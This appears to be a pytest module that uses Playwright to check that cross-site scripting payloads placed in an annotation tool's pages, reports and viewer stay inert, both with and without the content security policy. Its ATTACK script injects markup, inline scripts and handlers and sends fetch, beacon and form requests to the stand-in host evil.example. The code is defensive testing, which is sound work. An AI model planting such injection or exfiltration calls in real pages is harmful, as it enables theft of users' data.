"""Scripts, handlers, styles, frames, forms, links and formulas in every field of the pages, the report and the viewer.

Each page is opened twice: as it is served, and with the content security policy switched off, so that neither the
escaping nor the policy is tested by way of the other.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Collection, Iterator, Sequence
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx2
import pytest

from conftest import answers, clean_environment, write_jsonl
from forked import Commands
from payloads import PAYLOADS
from rows import Tally
from sciexam.annotate.markup import to_html
from sciexam.report.plain_text import plain_text
from study import Study

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

Open = Callable[..., Any]

ALL = "\n\n".join(PAYLOADS)
SOME = [PAYLOADS[i : i + 4] for i in range(0, len(PAYLOADS), 4)]  # to a page
VERBATIM = [one for one in PAYLOADS if one[0] in '<&"']  # they hold no Markdown
NAMES = [one for one in PAYLOADS if one.isprintable() and len(one) <= 100 and one == one.strip()]
FILES = [one for one in PAYLOADS if one.isprintable() and "/" not in one][:8]
POLICY = pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without its policy"])

# What stands in a page besides text. The page has one script and one style sheet of its own, and drawings with a class.
LOOK = """() => {
    for (const details of document.querySelectorAll("details")) {
        details.removeAttribute("name");
        details.open = true;
    }
    const all = [...document.querySelectorAll("*")];
    const alien = "img, image, iframe, frame, object, embed, base, video, audio, source, template, noscript, applet, " +
        "maction, mglyph, annotation-xml, foreignObject, animate, set, use, svg a, math a, portal, " +
        "meta[http-equiv]:not([http-equiv=Content-Security-Policy]), link:not([rel=icon]), input:not([name])";
    const attributes = all.flatMap(one => one.getAttributeNames().map(name => [name, one.getAttribute(name)]));
    return {
        pwned: window.pwned ?? null,
        text: document.body.innerText,
        fields: [...document.querySelectorAll("textarea")].map(field => field.value),
        scripts: document.querySelectorAll("script").length,
        styles: document.querySelectorAll("style").length,
        alien: all.filter(one => one.matches(alien)).map(one => one.outerHTML.slice(0, 200)),
        active: attributes.filter(([name]) => /^on|^style$|^srcdoc$|^xlink:|^formaction$/.test(name))
            .map(pair => pair.join("=")),
        targets: attributes.filter(([name]) => /^(href|src|srcset|action|data|poster)$/.test(name)),
    };
}"""


class Watched:
    """A tab, and everything that it did of its own accord."""

    def __init__(self, opened: Open, url: str, policy: bool):
        self.did: list[str] = []
        self._own = url
        self._going = ""
        self.page = opened("about:blank", bypass_csp=not policy)
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)
        self.page.on("framenavigated", self._navigation)
        self.page.context.on("page", lambda page: self.did.append(f"window {page.url}"))

    def _dialog(self, dialog: Any) -> None:
        self.did.append("dialog")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if request.url not in (self._going, "data:,"):
            self.did.append(f"request {request.url}")

    def _navigation(self, frame: Any) -> None:
        if frame.url != self._going:
            self.did.append(f"navigation {frame.url}")

    def see(self, url: str, own: Collection[str] = ()) -> tuple[str, list[str]]:
        """Open a page, hold it to what is said above, and return its text and what stands in its text fields.

        `own` are patterns of the style attributes that the page itself may have.
        """
        self._going = url
        self.page.goto(url)
        found = self.page.evaluate(LOOK)
        self.page.wait_for_timeout(20)
        assert self.page.url == url
        assert self.did == []
        assert self.page.evaluate("window.pwned ?? null") is found["pwned"] is None
        assert found["alien"] == []
        assert [one for one in found["active"] if not any(re.fullmatch(f"style={known}", one) for known in own)] == []
        assert (found["scripts"], found["styles"]) == (1, 1)
        for _, target in found["targets"]:
            assert target == "data:," or re.match(r"#|/(a|owner)/[\w.-]+(/|$)", target), target
        return flat(found["text"]), [flat(field) for field in found["fields"]]


def flat(text: str) -> str:
    """A text as it is read: a style sheet may wrap it, and put it in capitals."""
    return " ".join(plain_text(text).split()).lower()


def holds(text: str, expected: Sequence[str], times: int = 1) -> None:
    missing = [one for one in expected if text.count(flat(one)) < times]
    assert missing == []


# ---------------------------------------------------------------- studies of nothing but hostile texts


def write_exam(folder: Path, contestants: Sequence[str], prompts: Sequence[Sequence[str]]) -> None:
    """Prompts, answers and a rubric of payloads: each answer has those of its prompt, and its contestant's letter."""
    rows = [{"id": f"q{i}", "text": "\n\n".join(some), "category": some[0]} for i, some in enumerate(prompts)]
    write_jsonl(folder / "prompts.jsonl", rows)
    for letter, name in zip("abcdefgh", contestants, strict=False):
        answers(folder, name, ["\n\n".join(f"{one} {letter}" for one in some) for some in prompts])
    levels = [{"label": f"{one} {i}", "anchor": one} for i, one in enumerate(PAYLOADS)]
    criterion = {"name": "Any", "question": ALL, "levels": levels}
    rubric = {"rubric": PAYLOADS[1], "about": ALL, "criteria": [criterion]}
    (folder / "rubric.yaml").write_text(json.dumps(rubric), encoding="utf-8")


@contextmanager
def hostile(
    commands: Commands, folder: Path, contestants: Sequence[str], prompts: Sequence[Sequence[str]], *options: str
) -> Iterator[Study]:
    """A study in which everything that can be a payload is one: contestants, too, by the names of their files.

    Each answer has the payloads of its prompt, each followed by the letter of the contestant.
    """
    write_exam(folder, contestants, prompts)
    (folder / "names.txt").write_text("\n".join(NAMES), encoding="utf-8")
    (folder / "guide.txt").write_text(ALL, encoding="utf-8")
    more = ("--names", "names.txt", "--guide", "guide.txt", "--overlap", "2")
    made = Study(folder, [*compared(contestants), *more, *options], commands=commands)
    try:
        yield made.start()
    finally:
        made.stop()


def compared(contestants: Sequence[str]) -> list[str]:
    return [*(f"{name}.jsonl" for name in contestants), "--prompts", "prompts.jsonl", "--rubric", "rubric.yaml"]


def judge(served: Study, annotator: int, forms: Iterator[dict[str, str]]) -> list[str]:
    """Judge until nothing is left, each item with the next form. Returns the addresses of the items."""
    seen: list[str] = []
    with httpx2.Client(base_url=served.origin, timeout=60) as client:
        link = f"{served.links[f'annotator-{annotator}']}/next"
        while target := client.get(link).headers.get("location"):
            seen.append(served.origin + target)
            form = {"turn": "0"} | next(forms)
            assert client.post(f"{target}/draft", data=form).status_code == 204
            assert client.post(target, data=form).status_code == 303
    return seen


@pytest.fixture(scope="module")
def pairs(tmp_path_factory: pytest.TempPathFactory, commands: Commands) -> Iterator[tuple[Study, list[str]]]:
    """The first two annotators contradict each other on everything, with payloads as comments."""
    with hostile(commands, tmp_path_factory.mktemp("pairs"), FILES[:2], SOME) as made:
        for annotator in (2, 1):  # the second to come sees each pair the other way round
            items = judge(made, annotator, ({"choice": "left-much", "comment": "\n\n".join(some)} for some in SOME))
        yield made, items


@pytest.fixture(scope="module")
def rankings(tmp_path_factory: pytest.TempPathFactory, commands: Commands) -> Iterator[tuple[Study, list[str]]]:
    """Eight answers to a prompt, of a payload each."""
    prompts = [[one] for one in VERBATIM[:6]]
    form = {"choice": "ranking", "comment": ALL[:4_000]} | {f"rank-{i}": str(i + 1) for i in range(8)}
    with hostile(commands, tmp_path_factory.mktemp("rankings"), FILES, prompts, "--task", "ranking") as made:
        yield made, judge(made, 1, (form for _ in prompts))


@pytest.fixture(scope="module")
def demonstrations(tmp_path_factory: pytest.TempPathFactory, commands: Commands) -> Iterator[tuple[Study, list[str]]]:
    """Proposals that are payloads, and versions of them that are payloads."""
    prompts = [VERBATIM, PAYLOADS]
    forms = ({"choice": "edit", "text": f"{ALL} {i}", "comment": ALL[:4_000]} for i in range(2))
    with hostile(
        commands, tmp_path_factory.mktemp("demonstrations"), FILES[:1], prompts, "--task", "demonstrations"
    ) as made:
        yield made, judge(made, 1, forms)


# ---------------------------------------------------------------- pages


@pytest.mark.slow
@POLICY
def test_nothing_comes_of_what_stands_in_a_pair(
    pairs: tuple[Study, list[str]], opened: Open, policy: bool, tally: Tally
) -> None:
    """The question, both answers, the comment, the rubric and the guide are payloads."""
    served, items = pairs
    watched = Watched(opened, served.origin, policy)
    answered: list[str] = []
    comments: list[str] = []
    for item in items:
        text, fields = watched.see(item)
        holds(text, PAYLOADS, times=4)  # of the rubric what it is about, a question, an anchor and its label
        holds(text, VERBATIM, times=5)  # and the guide, which is read as Markdown
        answered += [one for one in VERBATIM if flat(f"{one} a") in text and flat(f"{one} b") in text]
        comments += fields
    assert set(answered) == set(VERBATIM)
    holds(" ".join(comments), PAYLOADS)
    tally(9 * len(PAYLOADS))  # the guide, four fields of the rubric, a question, two answers, a comment


@pytest.mark.slow
@POLICY
def test_nothing_comes_of_what_stands_in_a_ranking(
    rankings: tuple[Study, list[str]], opened: Open, policy: bool
) -> None:
    served, items = rankings
    watched = Watched(opened, served.origin, policy)
    for item in items:
        text, [comment] = watched.see(item)
        holds(text, PAYLOADS, times=4)
        holds(text, VERBATIM, times=5)
        assert comment == flat(ALL[:4_000])
        assert any(all(flat(f"{one} {letter}") in text for letter in "abcdefgh") for one in VERBATIM)


@pytest.mark.slow
@POLICY
def test_nothing_comes_of_what_somebody_wrote(
    demonstrations: tuple[Study, list[str]], opened: Open, policy: bool
) -> None:
    served, items = demonstrations
    watched = Watched(opened, served.origin, policy)
    for number, item in enumerate(items):
        text, fields = watched.see(item)
        holds(text, PAYLOADS, times=4)
        holds(text, VERBATIM, times=5)
        holds(text, [f"{one} a" for one in VERBATIM])
        assert flat(f"{ALL} {number}") in fields


@pytest.mark.slow
@POLICY
@pytest.mark.parametrize("task", ["pairs", "rankings", "demonstrations"])
def test_nothing_comes_of_what_stands_in_the_other_pages(
    task: str, policy: bool, opened: Open, request: pytest.FixtureRequest
) -> None:
    """History, the end, a break, what is said of what is not there; and what the owner sees."""
    served, items = request.getfixturevalue(task)
    watched = Watched(opened, served.origin, policy)
    own, owner = served.links["annotator-1"], served.links["adjudication"]
    text, _ = watched.see(f"{own}/history")
    holds(text, VERBATIM[:6] if task == "rankings" else PAYLOADS)
    for page in ("next", "pause?suggested", "item/x"):
        watched.see(f"{own}/{page}")
    text, _ = watched.see(owner)
    holds(text, NAMES)
    holds(text, FILES[: {"pairs": 2, "rankings": 8, "demonstrations": 1}[task]])
    if task == "pairs":
        text, _ = watched.see(f"{owner}/disputed")
        holds(text, PAYLOADS, times=2)  # as comments of two
        holds(text, VERBATIM, times=5)  # and as a question, and in two answers
        holds(text, NAMES[:2], times=len(items))


@pytest.mark.slow
@POLICY
def test_nothing_comes_of_a_draft(demonstrations: tuple[Study, list[str]], opened: Open, policy: bool) -> None:
    """The next annotator has written everything, and sent nothing: it is in the fields when the page is opened anew."""
    served, _ = demonstrations
    watched = Watched(opened, served.origin, policy)
    link = f"{served.links['annotator-2']}/next"
    item = served.origin + httpx2.get(link).headers["location"]
    form = {"text": f"</textarea>{ALL}", "comment": f"</textarea>{ALL[:3_000]}"}
    assert httpx2.post(f"{item}/draft", data=form).status_code == 204
    _, fields = watched.see(item)
    assert flat(form["text"]) in fields


# Every payload as markup, a script, a handler, and whatever asks another host. A meta element would be too quick.
ATTACK = """payloads => {
    const place = document.createElement("div");
    document.body.append(place);
    for (const one of payloads.filter(one => !one.includes("refresh"))) place.insertAdjacentHTML("beforeend", one);
    const script = document.createElement("script");
    script.textContent = "window.inline = true";
    place.append(script);
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.handled = true");
    place.append(button);
    button.click();
    fetch("https://evil.example/fetched").catch(() => 0);
    navigator.sendBeacon("https://evil.example/beacon", "x");
    const form = document.createElement("form");
    form.action = "https://evil.example/form";
    form.target = "other";
    place.append(form);
    form.submit();
    return [!!window.inline, !!window.handled];
}"""


@pytest.mark.slow
def test_the_policy_by_itself_stops_what_would_get_in(pairs: tuple[Study, list[str]], opened: Open) -> None:
    """The payloads are put into a page as markup, which nothing of it escapes: only without the policy they act."""
    served, items = pairs
    asked: list[str] = []

    def answer(route: Any) -> None:
        asked.append(route.request.url.removeprefix("https://evil.example/"))
        route.abort()

    for policy in (True, False):
        for url in (items[0], f"{served.links['adjudication']}/disputed"):
            page = opened("about:blank", bypass_csp=not policy)
            page.context.route("https://evil.example/**", answer)
            page.goto(url)
            ran = page.evaluate(ATTACK, VERBATIM)
            page.wait_for_timeout(300)
            assert ran == [not policy] * 2
            assert (page.evaluate("window.pwned ?? null") is None) == policy
            assert page.url == url
        assert set(asked) >= {"a.css", "fetched", "form?"} if not policy else asked == []


# ---------------------------------------------------------------- files


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory, commands: Commands) -> Path:
    """A folder with the report of a comparison in which a judge's reasons are payloads, too."""
    folder = tmp_path_factory.mktemp("reports")
    write_exam(folder, FILES[:2], SOME)
    verdicts = [
        {
            "prompt": f"q{i}",
            "first": a,
            "second": b,
            "preferred": "first",
            "rater": "judge",
            "reason": "\n\n".join(some),
        }
        for i, some in enumerate(SOME)
        for a, b in (FILES[:2], FILES[1::-1])
    ]
    write_jsonl(folder / "judge.jsonl", verdicts)
    command = ("compare", *compared(FILES[:2]), "--judge", "judge.jsonl")
    done = commands.run(command, folder, clean_environment(), timeout=100)
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture(scope="module")
def over_http(reports: Path) -> Iterator[str]:
    """The address of a server that shows that folder."""

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(reports)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()
    thread.join()


@POLICY
@pytest.mark.parametrize("where", ["file", "http"])
def test_nothing_comes_of_what_stands_in_a_report(
    where: str, policy: bool, reports: Path, over_http: str, opened: Open, tally: Tally
) -> None:
    """Questions, answers, names of contestants, the rubric and a judge's reasons, opened as a file and over HTTP."""
    [report] = reports.glob("results/*/*/report.html")
    url = report.as_uri() if where == "file" else over_http + report.relative_to(reports).as_posix()
    watched = Watched(opened, url, policy)
    watched.see(url, (r"flex-grow:\d+", r"max-width:\d+px"))
    text = flat(watched.page.evaluate("document.body.textContent"))  # what is far below is not laid out yet
    holds(text, PAYLOADS, times=2 + 3)  # two reasons; the question, and two answers
    holds(text, FILES[:2], times=3)
    tally(5 * len(PAYLOADS) + 2)


# ---------------------------------------------------------------- a text by itself

PROVOKE = """() => document.querySelectorAll("body *").forEach(element => {
    for (const kind of ["mouseover", "mousedown", "click", "focus", "load", "toggle"])
        element.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true}));
    if (element.focus) element.focus();
})"""


class Rendered:
    """A page with a text in it, and what the text did: requests, dialogs, navigations, windows."""

    def __init__(self, browser: Any, html: str) -> None:
        self.did: list[str] = []
        self.page = browser.new_page()
        self.page.on("request", lambda request: self.did.append(f"request {request.url}"))
        self.page.on("popup", lambda popup: self.did.append(f"window {popup.url}"))
        self.page.on("framenavigated", lambda frame: self.did.append(f"navigation {frame.url}"))
        self.page.on("dialog", self._dialog)
        self.page.context.route("**/*", lambda route: route.abort())
        try:
            self.page.set_content(f"<!doctype html><title>t</title><main>{html}</main>", wait_until="commit")
            self.page.evaluate(PROVOKE)
            self.page.wait_for_timeout(150)
            self.pwned = self.page.evaluate("window.pwned")
            self.text = self.page.inner_text("main")
        except playwright.Error as error:
            self.did.append(f"error {error.message}")

    def _dialog(self, dialog: Any) -> None:
        self.did.append("dialog")
        dialog.dismiss()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_rendered_payload_does_nothing(browser: Any, payload: str) -> None:
    watched = Rendered(browser, to_html(payload))
    assert watched.did == []
    assert watched.pwned is None
    assert watched.page.url == "about:blank"
    if payload[0] in '<&"':
        assert " ".join(watched.text.split()) == " ".join(payload.split())
    watched.page.close()


def test_all_payloads_together_do_nothing(browser: Any) -> None:
    for html in (to_html("\n\n".join(PAYLOADS)), "".join(map(to_html, PAYLOADS))):
        watched = Rendered(browser, html)
        assert watched.did == []
        assert watched.pwned is None
        watched.page.close()


@pytest.mark.parametrize("payload", PAYLOADS[:5])
def test_the_watch_sees_what_a_payload_does_as_html(browser: Any, payload: str) -> None:
    watched = Rendered(browser, payload)
    assert watched.did or watched.pwned == 1
    watched.page.close()
